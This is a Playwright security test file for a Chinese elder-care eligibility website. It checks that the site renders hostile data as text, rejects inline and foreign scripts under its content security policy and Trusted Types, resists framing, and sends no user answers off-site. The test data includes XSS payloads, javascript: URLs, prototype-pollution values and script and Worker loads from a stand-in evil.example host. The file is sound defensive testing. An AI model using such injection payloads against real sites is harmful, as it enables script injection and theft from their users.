// What an attacker may try from data, links, other sites and storage: node security.mjs <site> <the same with hostile data> <log of the site's requests>
// The threats and who defends against them: docs/threat-model.md.
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { AS_OF, address, answer, answerAll, check, go, open, profile, runTests, same, searchFor, shown, site, texts } from "./harness.mjs";
import { preset } from "./playwright.mjs";

const [, , , hostileSite, log, only] = process.argv;
const hostile = (hash) => `${hostileSite}?as_of=${AS_OF}${hash}`;
const PAGES = ["#/", "#/check", "#/result", "#/find", "#/about", "#/coverage", "#/plan", "#/data", "#/settings"];
const MARK = "<img src=x onerror=stolen=1>";

/** Nothing of what came as text has become part of the page or has run. */
async function harmless(page, where) {
  const found = await page.evaluate(() => {
    const bad = [];
    if ("stolen" in window) bad.push("a script ran");
    for (const one of document.querySelectorAll("*")) {
      for (const { name, value } of one.attributes) {
        if (name.startsWith("on")) bad.push(`${one.tagName} ${name}`);
        if (
          /^(href|src|action|formaction|data|xlink:href)$/.test(name) &&
          !["http:", "https:", "tel:", "data:"].includes(new URL(value, document.baseURI).protocol)
        )
          bad.push(`${one.tagName} ${name}=${value}`);
      }
      if (one.tagName === "SCRIPT" && (one.textContent !== "" || new URL(one.src).origin !== location.origin))
        bad.push("a script from elsewhere");
      if (one.tagName === "IMG" && one.getAttribute("src") === "x") bad.push("an image of the data's");
    }
    return bad;
  });
  same(found, [], where);
}
async function openAll(page) {
  await page.evaluate(() => {
    for (const one of document.querySelectorAll("details")) one.open = true;
  });
}
function noDialogs(page, seen) {
  page.on("dialog", (dialog) => {
    seen.problems.push(`dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
}
/** What the site's server has been asked so far. */
const requests = () =>
  readFileSync(log, "utf8")
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line));
/** A page of another origin with this markup. */
async function elsewhere(markup, test) {
  const server = createServer((_, response) =>
    response.writeHead(200, { "Content-Type": "text/html; charset=utf-8" }).end(`<!doctype html><title>o</title>${markup}`),
  );
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  try {
    await test(`http://127.0.0.1:${server.address().port}/`);
  } finally {
    server.close();
    server.closeAllConnections?.();
  }
}

const tests = {
  async "hostile texts in the data are shown as text on every page, and nothing of them runs"({ page, seen }) {
    noDialogs(page, seen);
    await preset(page, profile("two-elders-one-child"));
    const with_ = [];
    for (const hash of PAGES) {
      await page.goto(hostile(hash));
      await shown(page, hash);
      if (hash === "#/plan") await page.waitForFunction(() => document.querySelector("main").textContent.length > 500);
      await openAll(page);
      await page.waitForTimeout(200);
      await harmless(page, hash);
      if ((await page.textContent("body")).includes(MARK)) with_.push(hash);
    }
    for (const hash of ["#/result", "#/about", "#/coverage", "#/plan"])
      check(with_.includes(hash), `${hash} shows nothing hostile: the test proves nothing (${with_})`);
    same(seen.problems, [], "problems");
  },

  async "hostile texts in questions are shown as text"({ page, seen }) {
    noDialogs(page, seen);
    await preset(page, {
      subjects: [
        { id: "e1", kind: "elder", facts: {} },
        { id: "h", kind: "household", facts: {} },
      ],
    });
    await page.goto(hostile("#/check/e1/hukou_district"));
    await page.waitForSelector("input[type=radio]");
    check((await page.textContent("main")).includes(MARK), "the question has no hostile text");
    let asked = 0;
    for (; asked < 25 && !page.url().includes("#/result"); asked++) {
      await openAll(page);
      await harmless(page, page.url());
      await answer(page, undefined);
    }
    check(asked > 8, `only ${asked} questions`);
    same(seen.problems, [], "problems");
  },

  async "hostile facilities: names, addresses, phones and notes are text, found and compared like others"({ page, seen }) {
    noDialogs(page, seen);
    await page.goto(hostile("#/find"));
    await page.waitForSelector(".total");
    await searchFor(page, "养老院0");
    await page.waitForSelector(".hit");
    await openAll(page);
    await page.waitForTimeout(200);
    const text = await page.textContent("main");
    check(text.includes("onerror=stolen=1"), "not found");
    await harmless(page, "hits");
    // The number a phone would dial is digits, whatever the text around them.
    for (const href of await page.locator(".hit a[href^='tel:']").evaluateAll((list) => list.map((one) => one.getAttribute("href"))))
      check(/^tel:[\d+]+$/.test(href), href);
    for (const href of await page.locator(".hit .maps a").evaluateAll((list) => list.map((one) => one.href))) {
      const url = new URL(href);
      check(url.protocol === "https:" && ["uri.amap.com", "apis.map.qq.com", "api.map.baidu.com"].includes(url.hostname), href);
    }
    await searchFor(page, "<img src=x onerror=stolen=1>");
    await harmless(page, "the search box");
    same(seen.problems, [], "problems");
  },

  async "hostile links: no fragment and no parameter runs, breaks the page or leaves it"({ browser }) {
    const codes = [
      MARK,
      "javascript:stolen=1",
      '"><svg onload=stolen=1>',
      "</script><script>stolen=1</script>",
      "__proto__",
      "constructor",
      "../../x",
      "//evil.example/",
      "\u202e\u0000",
      "a".repeat(50_000),
      "%E0%A4%A",
      "%00",
    ];
    const { page, seen, context } = await open(browser);
    noDialogs(page, seen);
    const paths = (code) => [
      code,
      `#/${code}`,
      `#/check/${code}`,
      `#/check/${code}/${code}/result`,
      `#/check/e1/${code}`,
      `#/plan/${code}`,
      `#/coverage/${code}`,
      `#/find/${code}`,
      `#/shared/${code}`,
      `#/s/${code}`,
      `#/estimate/${code}`,
      `#/scale/${code}`,
    ];
    await page.goto(address(""));
    await page.waitForSelector("h1");
    for (const code of codes)
      for (const written of new Set([code, encodeURIComponent(code)]))
        for (const hash of paths(written)) {
          await go(page, hash.startsWith("#") ? hash : `#${hash}`);
          await page.waitForFunction(() => document.querySelector("h1") !== null);
          await harmless(page, hash.slice(0, 80));
        }
    for (const code of codes.slice(0, 9)) {
      const value = encodeURIComponent(code);
      await page.goto(
        `${site}?as_of=${value}&embed=${value}&lang=${value}&elder=${value}&district=${value}&accent=${value}&paper=${value}&ink=${value}#/check`,
      );
      await page.waitForSelector("h1");
      await harmless(page, `parameters ${code}`);
    }
    same(new URL(page.url()).origin, new URL(site).origin, "origin");
    same(await page.evaluate(() => ({}).polluted), undefined, "prototype");
    same(seen.problems, [], "problems");
    await context.close();
  },

  async "hostile storage: whatever stands where the answers are kept, the page opens and nothing runs"({ browser }) {
    const kept = [
      "{",
      "null",
      "[]",
      "7",
      '"x"',
      "{}",
      '{"subjects":7}',
      '{"subjects":[null,{}]}',
      `{"subjects":[{"id":"${MARK}","kind":"elder","facts":{}}],"skipped":[]}`,
      '{"subjects":[{"id":"e1","kind":"elder","facts":{"__proto__":{"polluted":1},"birth_date":"<img src=x onerror=stolen=1>","constructor":true}}],"skipped":[]}',
      '{"subjects":[{"id":"__proto__","kind":"elder","facts":{}}],"skipped":["x"]}',
      `{"subjects":[{"id":"e1","kind":"${MARK}","facts":{}}]}`,
    ];
    for (const text of kept) {
      const { page, seen, context } = await open(browser);
      noDialogs(page, seen);
      await context.addInitScript((value) => {
        for (const key of ["chuncheng.answers", "chuncheng.settings", "chuncheng.update"]) localStorage.setItem(key, value);
      }, text);
      for (const hash of ["#/", "#/check", "#/result"]) {
        await page.goto(address(hash));
        await page.waitForSelector("h1");
        await harmless(page, `${text} ${hash}`);
      }
      same(await page.evaluate(() => ({}).polluted), undefined, "prototype");
      same(
        seen.problems.filter((line) => !line.includes("[core]")),
        [],
        text,
      );
      await context.close();
    }
  },

  async "the policy: nothing inline, nothing evaluated, nobody else's"({ page }) {
    for (const name of ["", "404.html", "no-such-page", "embed.html", "embed.js", "files.json"]) {
      const response = await page.request.get(new URL(name, site).href);
      const policy = Object.fromEntries(
        (response.headers()["content-security-policy"] ?? "").split("; ").map((part) => [part.split(" ")[0], part.split(" ").slice(1)]),
      );
      same(policy["default-src"], ["'none'"], `${name} default-src`);
      same(policy["script-src"], ["'self'", "'wasm-unsafe-eval'"], `${name} script-src`);
      same(policy["style-src"], ["'self'"], `${name} style-src`);
      same(policy["connect-src"], ["'self'"], `${name} connect-src`);
      same(policy["base-uri"], ["'none'"], `${name} base-uri`);
      same(policy["form-action"], ["'none'"], `${name} form-action`);
      same(policy["require-trusted-types-for"], ["'script'"], `${name} trusted types`);
      same(policy["trusted-types"], ["default"], `${name} trusted types`);
      check(policy["frame-ancestors"]?.[0] === "'self'", `${name} frame-ancestors`);
      for (const [directive, values] of Object.entries(policy))
        for (const value of values) {
          check(!/unsafe-inline|'unsafe-eval'|unsafe-hashes|^\*$|^https?:$|^blob:$/.test(value), `${name} ${directive} ${value}`);
          check(value !== "data:" || directive === "img-src", `${name} ${directive} ${value}`);
        }
      same(response.headers()["x-content-type-options"], "nosniff", name);
      same(response.headers()["referrer-policy"], "no-referrer", name);
    }
    for (const name of ["", "404.html", "embed.html"]) {
      const text = await (await page.request.get(new URL(name, site).href)).text();
      check(
        !/<script(?![^>]*\ssrc=)[^>]*>|<style|\sstyle=|\son\w+=/.test(text.replace(/<(pre|code)[\s\S]*?<\/\1>/g, "")),
        `${name} has something inline`,
      );
    }
  },

  async "Trusted Types: strings are refused as markup and code, other sites' scripts as Workers; our own Worker runs"({ page, seen }) {
    await page.goto(address("#/find"));
    await page.waitForSelector(".total");
    same(page.workers().length, 1, "Workers: the search has fallen back to the page");
    await page.waitForFunction(() => navigator.serviceWorker.getRegistration().then((one) => one !== undefined));
    same(seen.problems, [], "problems");
    const tried = await page.evaluate(async () => {
      // What the debugger starts may evaluate, what runs after it may not.
      await new Promise((later) => setTimeout(later, 0));
      const box = document.createElement("div");
      const tries = {
        innerHTML: () => {
          box.innerHTML = "<b>x</b>";
        },
        insertAdjacentHTML: () => box.insertAdjacentHTML("beforeend", "<b>x</b>"),
        srcdoc: () => {
          document.createElement("iframe").srcdoc = "<b>x</b>";
        },
        parser: () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
        script: () => {
          document.createElement("script").text = "stolen=1";
        },
        eval: () => globalThis["ev" + "al"]("stolen=1"),
        function: () => new Function("stolen=1")(),
        worker: () => new Worker("https://evil.example/x.js"),
        data: () => new Worker("data:text/javascript,1"),
        policy: () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }),
        again: () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
      };
      const out = {};
      for (const [name, one] of Object.entries(tries)) {
        try {
          one();
          out[name] = "taken";
        } catch {
          out[name] = "refused";
        }
      }
      for (const source of ["stolen=1", null]) {
        const script = document.createElement("script");
        if (source === null)
          try {
            script.src = "https://evil.example/x.js";
          } catch {
            out.src = "refused";
          }
        else script.append(source);
        document.head.append(script);
      }
      const link = document.createElement("a");
      link.href = "javascript:stolen=1";
      document.body.append(link);
      link.click();
      await new Promise((later) => setTimeout(later, 100));
      out.ran = "stolen" in window;
      return out;
    });
    for (const [name, found] of Object.entries(tried)) same(found, name === "ran" ? false : "refused", name);
  },

  async "another site cannot frame the page, send it to another address or reach into it"({ browser }) {
    const { page, context } = await open(browser);
    await elsewhere(`<iframe id="f" src="${site}"></iframe>`, async (other) => {
      await page.goto(other);
      await page.waitForTimeout(1000);
      const frame = page.frames().find((one) => one !== page.mainFrame());
      check(frame === undefined || !frame.url().startsWith(site), `framed: ${frame?.url()}`);
    });
    await elsewhere(`<script>opened = window.open(${JSON.stringify(site)})</script>`, async (other) => {
      const popup = context.waitForEvent("page");
      await page.goto(other);
      const second = await popup;
      await second.waitForSelector("h1");
      same(await second.evaluate(() => window.opener), null, "opener");
      check(await page.evaluate(() => opened.closed), "the opener keeps a hand on the page");
    });
    // And the same frame at home, so that the first half shows what it should.
    await page.goto(address(""));
    await page.waitForSelector(".door");
    await page.evaluate((own) => {
      const frame = document.createElement("iframe");
      frame.src = own;
      document.body.append(frame);
    }, site);
    await page.waitForFunction(() => document.querySelector("iframe").contentDocument?.querySelector("h1") != null);
    await context.close();
  },

  async "all journeys: no request leaves the origin, and no answer stands in any, by the server's own log"({ page, seen }) {
    const before = requests().length;
    await page.goto(address("#/check"));
    await page.click("form.who .primary");
    await answerAll(page, { birth_date: "1931-07-19", hukou_district: "xundian", contribution_years: 37, ltci_continuous_months: 613 });
    await go(page, "#/check/e1/care_cost_month");
    await page.waitForSelector(".number input");
    await answer(page, "31415.92");
    const secrets = ["1931", "07-19", "xundian", "613", "31415", "3141592", "寻甸", "敬老院", "zzqqxx", "2024-02-29"];
    for (const secret of secrets) check(!decodeURIComponent(page.url()).includes(secret), `${secret} in the address`);
    await page.evaluate(
      (given) => localStorage.setItem("chuncheng.answers", given),
      JSON.stringify({
        subjects: [...profile("institution-full").subjects, { id: "c1", kind: "child", facts: { birth_date: "2024-02-29" } }],
        skipped: [],
      }),
    );
    for (const hash of PAGES) {
      await page.goto(address(hash));
      await shown(page, hash);
      if (hash === "#/find") {
        await searchFor(page, "寻甸敬老院");
        await searchFor(page, "zzqqxx");
      }
      if (hash === "#/about") {
        await page.click("main button.secondary");
        await page.waitForSelector("main [data-outcome]");
      }
    }
    await page.waitForTimeout(1500); // what is fetched while idle
    for (const request of seen.requests)
      check(request.url().startsWith("blob:") || new URL(request.url()).origin === new URL(site).origin, `request to ${request.url()}`);
    const written = requests().slice(before);
    check(written.length > 20, `${written.length} requests`);
    for (const { line, headers, body } of written) {
      check(/^(GET|HEAD) /.test(line), line);
      same(body, "", line);
      for (const [name] of headers) check(!/^(referer|cookie|authorization)$/i.test(name), `${line}: ${name}`);
      const all =
        decodeURIComponent(line.replace(/[.-][0-9a-zA-Z_-]{8,16}\.\w+ HTTP/, "")) +
        headers.filter(([name]) => !/^(host|user-agent|sec-|if-none-match|if-modified-since)/i.test(name)).join();
      for (const secret of [...secrets, "e1/", "#/"]) check(!all.includes(secret), `${secret} in ${line}`);
    }
    same(await page.evaluate(() => document.cookie), "", "cookies");
    same(seen.problems, [], "problems");
    check(texts["web.home.privacy"].length > 0, "the sentence that promises it");
  },
};

await runTests(tests, only);
